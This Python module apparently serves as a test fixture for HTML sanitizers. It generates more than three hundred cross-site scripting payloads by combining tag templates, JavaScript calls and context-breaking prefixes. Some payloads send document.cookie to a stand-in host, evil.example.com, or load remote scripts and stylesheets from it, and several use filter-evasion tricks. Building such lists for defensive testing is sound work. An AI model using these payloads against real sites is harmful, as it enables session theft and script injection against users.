"""Texts that become something else where a page takes them for HTML, script or addresses: more than three hundred."""

from __future__ import annotations

from itertools import product

_CALLS = (
    "alert(1)",
    "window.pwned=1",
    "fetch('//evil.example.com/'+document.cookie)",
    "import('//evil.example.com/x.js')",
)
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT\t>",
    "<script src=//evil.example.com/x.js></script>{}",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src='javascript:{}'>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>",
    "<a href=' jav&#x09;ascript:{}'>x</a>",
    "<form action='javascript:{}'><input type=submit>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example.com/>{}",
    "<link rel=stylesheet href=//evil.example.com/x.css>{}",
    "<style>@import '//evil.example.com/x.css';</style>{}",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><script>{}</script>]]>",
)
_BREAKS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "\\",
    "-->",
    "]]>",
    "`",
    "${",
    "{{",
    "&lt;",
    "%3C",
    "\u202e",
    "\ufeff",
)

PAYLOADS = tuple(
    dict.fromkeys(
        [tag.format(call) for tag, call in product(_TAGS, _CALLS)]
        + [before + tag.format("window.pwned=1") for before, tag in product(_BREAKS, _TAGS[:12])]
        + ["javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>", "__proto__", "constructor"]
    )
)
"""Each in one line."""
